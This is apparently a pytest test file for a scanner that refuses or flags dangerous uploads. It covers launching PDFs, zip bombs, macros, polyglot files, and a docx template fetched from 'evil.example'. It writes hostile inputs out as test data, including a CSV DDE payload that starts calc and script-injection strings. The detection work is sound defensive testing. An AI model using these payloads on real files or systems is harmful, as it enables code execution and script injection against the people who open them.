"""Files that could harm whoever opens them, and bytes that are no file at all."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from bot.domain.claim import Severity
from tests import samples
from tests.files.judging import EVERY, LIMITS, WHOLE, code, judged


@pytest.mark.parametrize("packed", [False, True])
def test_a_pdf_that_starts_a_program_is_refused(packed: bool) -> None:
    assert code(samples.launching_pdf(packed=packed), "a.pdf") == "file_active_content"


def test_a_pdf_name_spelled_with_escapes_hides_nothing() -> None:
    assert (
        code(samples.pdf(root="/OpenAction << /S /L#61unch >>"), "a.pdf") == "file_active_content"
    )


def test_a_pdf_with_scripts_is_taken_with_a_remark() -> None:
    finding = judged(samples.scripted_pdf(), "a.pdf").findings[0]

    assert finding.code == "file_scripted_pdf"
    assert finding.severity is Severity.WARN


def test_an_interactive_form_is_taken_with_a_remark() -> None:
    assert code(samples.pdf(root="/AcroForm << /XFA [] >>"), "a.pdf") == "file_dynamic_form"


@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx"])
def test_a_zip_bomb_is_refused_without_unpacking_it(kind: str) -> None:
    assert code(samples.bomb(kind), f"a.{kind}") == "file_unpacks_too_large"


def test_a_bomb_within_an_embedded_workbook_is_refused() -> None:
    nested = samples.office("docx", "<d/>", {"word/embeddings/a.xlsx": samples.bomb("xlsx")})

    assert code(nested, "a.docx") == "file_unpacks_too_large"


def test_archives_nested_without_end_are_refused() -> None:
    inner = samples.xlsx()
    for _ in range(4):
        inner = samples.archive({"a.zip": inner})

    assert (
        code(samples.office("docx", "<d/>", {"x.zip": inner}), "a.docx") == "file_unpacks_too_large"
    )


def test_an_archive_of_countless_entries_is_refused() -> None:
    many = {f"word/{n}": b"" for n in range(LIMITS.max_archive_entries + 1)}

    assert code(samples.office("docx", "<d/>", many), "a.docx") == "file_unpacks_too_large"


def test_a_package_with_a_damaged_part_is_told() -> None:
    data = bytearray(samples.docx(size=20_000))
    data[10_000] ^= 0xFF

    assert code(bytes(data), "a.docx") == "file_damaged"


def test_a_package_that_lies_about_a_size_is_told() -> None:
    data = samples.docx()
    with zipfile.ZipFile(BytesIO(data)) as archive:
        size = archive.getinfo("word/document.xml").file_size
    lie = data.replace(size.to_bytes(4, "little"), (5).to_bytes(4, "little"))

    assert code(lie, "a.docx") == "file_damaged"


@pytest.mark.parametrize(
    ("part", "expected"),
    [
        ("word/vbaProject.bin", "file_macros"),
        ("word/activeX/activeX1.bin", "file_active_content"),
    ],
)
def test_code_in_a_package_of_innocent_type_is_refused(part: str, expected: str) -> None:
    assert code(samples.office("docx", "<d/>", {part: b"code"}), "a.docx") == expected


def test_a_template_loaded_from_elsewhere_is_refused() -> None:
    relations = (
        b'<R Type="attachedTemplate" TargetMode="External" Target="https://evil.example/t"/>'
    )
    data = samples.office("docx", "<d/>", {"word/_rels/settings.xml.rels": relations})

    assert code(data, "a.docx") == "file_active_content"


def test_macros_in_a_word_97_document_are_refused() -> None:
    assert code(samples.doc(macros=True), "a.doc") == "file_macros"


def test_a_picture_of_gigabytes_is_refused_without_decoding_it() -> None:
    assert code(samples.huge_png(), "a.png") == "file_too_many_pixels"


def test_a_png_with_a_changed_byte_is_told() -> None:
    data = bytearray(samples.png())
    data[len(data) // 2] ^= 1

    assert code(bytes(data), "a.png") == "file_damaged"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (samples.pdf() + samples.archive({"a": b"b"}), "a.pdf"),
        (samples.png() + samples.archive({"a": b"b"}), "a.png"),
        (samples.jpg() + samples.archive({"a": b"b"}), "a.jpg"),
        (samples.jpg() + b"<script>alert(1)</script>", "a.jpg"),
        (samples.gif() + b"=1;alert(1)//", "a.gif"),
        (b"GIF89a/*" + samples.gif()[8:] + b"*/=1;alert(1)", "a.gif"),
        (samples.gif() + samples.pdf(), "a.gif"),
        (samples.bmp() + samples.html(), "a.bmp"),
        (b"<html>" + samples.pdf(), "a.pdf"),
        (samples.pdf() + samples.html(), "a.pdf"),
        (b"{\\rtf1 %PDF-1.7}", "a.rtf"),
        (b"name,cost\n<script>alert(1)</script>,2\n", "a.csv"),
    ],
)
def test_a_file_that_is_two_things_at_once_is_refused(data: bytes, name: str) -> None:
    assert code(data, name) == "file_hidden_content"


def test_what_a_phone_puts_behind_a_photo_does_no_harm() -> None:
    assert code(samples.jpg() + samples.mp4() + samples.jpg(), "a.jpg") == ""


def test_an_object_in_rich_text_is_refused() -> None:
    assert code(b"{\\rtf1 {\\object\\objdata 0105}}", "a.rtf") == "file_active_content"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "file_formulas"),
        ('"=HYPERLINK(""x"")"', "file_formulas"),
        ("@SUM(1)", "file_formulas"),
        ("-cmd|' /C calc'!A0", "file_formulas"),
        ("+82 (0)2-531-4500", ""),
        ("-5", ""),
        ("a@b.example", ""),
    ],
)
def test_formulas_in_a_table_are_remarked_on_and_numbers_are_not(cell: str, expected: str) -> None:
    assert code(f"name,value\nKim,{cell}\n".encode(), "a.csv") == expected


@settings(deadline=None)  # the first damaged PDF loads pypdf
@given(
    body=st.binary(max_size=400),
    start=st.sampled_from([b"", *(make()[:700] for make in WHOLE.values())]),
    extension=st.sampled_from([*EVERY, "", "exe", "zip"]),
)
@example(body=b"II*\0\x08\0\0\0\xff\xff", start=b"", extension="tiff")
def test_whatever_the_bytes_the_answer_is_a_judgement(
    body: bytes, start: bytes, extension: str
) -> None:
    inspection = judged(start + body, f"a.{extension}")

    assert inspection.findings or inspection.extension in EVERY


@settings(deadline=None)
@given(data=st.data(), extension=st.sampled_from([e for e in WHOLE if e != "csv"]))
def test_a_file_with_changed_bytes_is_judged_without_error(
    data: st.DataObject, extension: str
) -> None:
    whole = bytearray(WHOLE[extension]())
    for _ in range(data.draw(st.integers(1, 6))):
        whole[data.draw(st.integers(0, len(whole) - 1))] = data.draw(st.integers(0, 255))

    assert judged(bytes(whole), f"a.{extension}").name == f"a.{extension}"


def test_an_action_hidden_in_a_pdf_that_needs_repair_is_found() -> None:
    bent = samples.launching_pdf(packed=True).replace(b"startxref\n", b"startxref\n9")

    assert code(bent, "a.pdf") == "file_active_content"


def test_countless_pages_of_one_tiff_are_not_all_read() -> None:
    data = samples.tiff()
    first = int.from_bytes(data[4:8], "little")
    entries = int.from_bytes(data[first : first + 2], "little")
    following = first + 2 + 12 * entries
    circular = data[:following] + first.to_bytes(4, "little") + data[following + 4 :]

    assert code(circular, "a.tiff") == "file_damaged"
